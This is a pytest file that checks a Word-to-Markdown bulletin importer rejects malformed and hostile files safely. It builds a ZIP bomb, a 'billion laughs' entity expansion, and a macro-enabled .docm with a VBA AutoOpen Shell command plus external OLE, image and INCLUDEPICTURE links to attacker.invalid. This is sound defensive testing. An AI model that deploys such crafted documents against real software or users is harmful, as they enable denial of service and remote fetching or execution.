"""`bulletin import` on bad and hostile input: one line naming the file, exit 1,
nothing written; nothing in a file is run or fetched."""

from __future__ import annotations

import io
import shutil
import socket
import subprocess
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from docx import Document

from bulletin.cli import main

EXAMPLE = Path(__file__).resolve().parents[1] / "examples" / "guangxi-fupin"


@pytest.fixture
def repo(tmp_path):
    root = tmp_path / "repo"
    root.mkdir()
    shutil.copy(EXAMPLE / "bulletin.yaml", root / "bulletin.yaml")
    return root


def tree(root: Path) -> dict:
    return {p.relative_to(root): p.read_bytes() for p in root.rglob("*") if p.is_file()}


def run_import(*args, root: Path, env=None):
    return CliRunner().invoke(main, ["import", *map(str, args), "--root", str(root)], env=env, catch_exceptions=False)


def good_docx(path: Path) -> Path:
    doc = Document()
    doc.add_paragraph("乐业县推进产业扶贫", style="Title")
    doc.add_paragraph("今年以来，乐业县不断加大产业扶贫力度。")
    doc.add_paragraph("（乐业县委办公室 周白阳）")
    doc.save(path)
    return path


def rezip(src: Path, dest: Path, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None) -> Path:
    """A copy of a package with some parts replaced or added."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = (replace or {}).get(info.filename, zin.read(info.filename))
            zout.writestr(info.filename, data)
        for name, data in (add or {}).items():
            zout.writestr(name, data)
    return dest


def fake_ole(path: Path, encrypted: bool) -> Path:
    """An OLE compound file header; an encrypted OOXML package names its
    EncryptedPackage and EncryptionInfo streams in the directory."""
    body = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    names = ("EncryptionInfo", "EncryptedPackage") if encrypted else ("WordDocument", "1Table")
    for name in names:
        body += name.encode("utf-16-le").ljust(64, b"\x00") + b"\x00" * 64
    path.write_bytes(body + b"\x00" * 1024)
    return path


def bad_inputs(tmp: Path) -> dict[str, tuple[Path, str]]:
    """name → (file, what the one line must say)."""
    good = good_docx(tmp / "good.docx")
    text = tmp / "notes.docx"
    text.write_text("这不是 Word 文件，只是改了扩展名。\n", encoding="utf-8")
    truncated = tmp / "truncated.docx"
    truncated.write_bytes(good.read_bytes()[: good.stat().st_size // 2])
    xlsx = tmp / "table.docx"
    with zipfile.ZipFile(xlsx, "w") as z:
        z.writestr("[Content_Types].xml", '<Types><Override PartName="/xl/workbook.xml" ContentType="application/'
                   'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>')
    bomb = tmp / "bomb.docx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/media/image1.png", b"\x00" * (24 << 20))
    empty = tmp / "empty.docx"
    empty.write_bytes(b"")
    # "billion laughs": entities that expand a thousand-fold at each level
    document = zipfile.ZipFile(good).read("word/document.xml").decode()
    levels = "".join(f'<!ENTITY {c} "{("&" + p + ";") * 10}">' for p, c in zip("abcdefg", "bcdefgh"))
    at = document.index("<w:document")
    document = document[:at] + f'<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa">{levels}]>' + document[at:]
    laughs = rezip(good, tmp / "laughs.docx", replace={"word/document.xml": document.replace("今年以来", "&h;今年以来", 1).encode()})
    return {
        "text": (text, "is not a Word document"),
        "truncated": (truncated, "is damaged"),
        "encrypted": (fake_ole(tmp / "secret.docx", encrypted=True), "password-protected"),
        "spreadsheet": (xlsx, "it is an Excel workbook"),
        "bomb": (bomb, "ZIP bomb"),
        "empty": (empty, "is empty"),
        "entities": (laughs, "is damaged"),
        "missing": (tmp / "nowhere.docx", "cannot be read"),
    }


@pytest.mark.parametrize("case", ["text", "truncated", "encrypted", "spreadsheet", "bomb", "empty", "missing", "entities"])
def test_bad_file_one_line_exit_1_nothing_written(tmp_path, repo, case):
    path, says = bad_inputs(tmp_path)[case]
    before = tree(repo)
    result = run_import(path, "--issue", "2018-50", root=repo)
    assert result.exit_code == 1
    lines = result.output.strip().splitlines()
    assert len(lines) == 1, lines
    assert lines[0].startswith(f"{path}:1:1: E070 ") and path.name in lines[0] and says in lines[0], lines[0]
    assert "Traceback" not in result.output
    assert tree(repo) == before


def test_every_bad_file_is_listed_and_a_good_one_is_not_written(tmp_path, repo):
    cases = bad_inputs(tmp_path)
    good = good_docx(tmp_path / "leye.docx")
    before = tree(repo)
    result = run_import(good, *(p for p, _ in cases.values()), "--issue", "2018-50", root=repo)
    assert result.exit_code == 1
    assert len([line for line in result.output.splitlines() if " E070 " in line]) == len(cases)
    assert tree(repo) == before  # all or nothing


def test_doc_without_libreoffice_says_how_to_get_it(tmp_path, repo):
    doc = fake_ole(tmp_path / "old.doc", encrypted=False)
    result = run_import(doc, "--issue", "2018-50", root=repo, env={"PATH": str(tmp_path / "no-programs-here")})
    assert result.exit_code == 1
    line = result.output.strip()
    assert line.startswith(f"{doc}:1:1: E070 old.doc is a binary Word .doc file")
    assert "apt-get install libreoffice-writer" in line and "save it as .docx" in line
    assert "\n" not in line


def test_doc_that_libreoffice_cannot_convert(tmp_path, repo):
    if not shutil.which("soffice"):
        pytest.skip("LibreOffice is not installed")
    doc = fake_ole(tmp_path / "broken.doc", encrypted=False)
    result = run_import(doc, "--issue", "2018-50", root=repo)
    assert result.exit_code == 1 and "E070 broken.doc" in result.output and "could not convert" in result.output


# ------------------------------------------------ nothing is run or fetched

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def hostile_docx(tmp_path: Path) -> Path:
    """Macros (a .docm with vbaProject.bin), an embedded OLE object, a
    picture linked to a web address, an INCLUDEPICTURE field, a hyperlink and
    an attached template on a server: a well-behaved import touches none."""
    base = tmp_path / "base.docx"
    doc = Document()
    doc.add_paragraph("乐业县推进产业扶贫", style="Title")
    p = doc.add_paragraph("今年以来，乐业县不断加大产业扶贫力度。")
    part = doc.part
    rid_link = part.relate_to("http://attacker.invalid/pixel.png", f"{REL}/image", is_external=True)
    rid_ole = part.relate_to("http://attacker.invalid/payload.bin", f"{REL}/oleObject", is_external=True)
    rid_href = part.relate_to("http://attacker.invalid/page", f"{REL}/hyperlink", is_external=True)
    from docx.oxml import parse_xml

    p._p.append(parse_xml(
        f'<w:r xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:v="urn:schemas-microsoft-com:vml"'
        f' xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:r="{REL}"><w:object>'
        f'<v:shape id="s1"><v:imagedata r:link="{rid_link}"/></v:shape>'
        f'<o:OLEObject Type="Link" ProgID="Package" ShapeID="s1" r:id="{rid_ole}"/></w:object></w:r>'))
    p._p.append(parse_xml(
        f'<w:hyperlink xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="{REL}" r:id="{rid_href}">'
        '<w:r><w:t>详见网页</w:t></w:r></w:hyperlink>'))
    field = doc.add_paragraph()
    field._p.append(parse_xml(
        '<w:fldSimple xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
        ' w:instr=\' INCLUDEPICTURE "http://attacker.invalid/x.png" \\d \'><w:r><w:t>图</w:t></w:r></w:fldSimple>'))
    doc.add_paragraph("（乐业县委办公室 周白阳）")
    doc.save(base)
    with zipfile.ZipFile(base) as z:
        types = z.read("[Content_Types].xml").decode()
        rels = z.read("word/_rels/document.xml.rels").decode()
    types = types.replace("wordprocessingml.document.main+xml", "NOPE").replace(
        "application/vnd.openxmlformats-officedocument.NOPE", "application/vnd.ms-word.document.macroEnabled.main+xml")
    types = types.replace("</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    rels = rels.replace("</Relationships>", '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/'
                        'relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
    return rezip(base, tmp_path / "hostile.docm", replace={"[Content_Types].xml": types.encode(),
                                                              "word/_rels/document.xml.rels": rels.encode()},
                 add={"word/vbaProject.bin": b"Attribute VB_Name = \"AutoOpen\"\nShell \"touch /tmp/pwned\"\n" * 20})


def test_no_network_and_no_process_while_importing(tmp_path, repo, monkeypatch):
    path = hostile_docx(tmp_path)

    def refuse(*args, **kwargs):
        raise AssertionError(f"import tried to reach outside: {args[:2]}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(subprocess, "Popen", refuse)  # no macro host, no converter for a .docm
    import os

    monkeypatch.setattr(os, "system", refuse)
    result = run_import(path, "--issue", "2018-50", root=repo)
    assert result.exit_code == 0, result.output
    out = result.output
    assert "macros: they were ignored, never run" in out
    assert "embedded objects (OLE) were not opened" in out
    assert "was not fetched" in out
    assert "links to outside files or web addresses were not followed" in out
    text = (repo / "issues" / "2018-50" / "leye.md").read_text(encoding="utf-8")
    assert "今年以来，乐业县不断加大产业扶贫力度。详见网页" in text
    assert "attacker" not in text and "Shell" not in text and "INCLUDEPICTURE" not in text
    assert not Path("/tmp/pwned").exists()
    assert sorted(p.name for p in (repo / "issues" / "2018-50").iterdir()) == ["issue.yaml", "leye.md"]


def test_zip_limits_are_checked_before_unpacking(tmp_path, repo, monkeypatch):
    """The limits look at the ZIP directory only: python-docx never sees a bomb."""
    from bulletin.importer import package

    path, _ = bad_inputs(tmp_path)["bomb"]
    opened = []
    import docx.package

    monkeypatch.setattr(docx.package.Package, "open", classmethod(lambda cls, f: opened.append(f)))
    with pytest.raises(package.ImportFailure, match="ZIP bomb"):
        package.open_word(path)
    assert opened == []


def test_too_many_parts(tmp_path):
    from bulletin.importer import package

    many = tmp_path / "many.docx"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for k in range(package.MAX_ENTRIES + 1):
            z.writestr(f"p{k}", b"")
    many.write_bytes(buf.getvalue())
    with pytest.raises(package.ImportFailure, match="parts"):
        package.open_word(many)
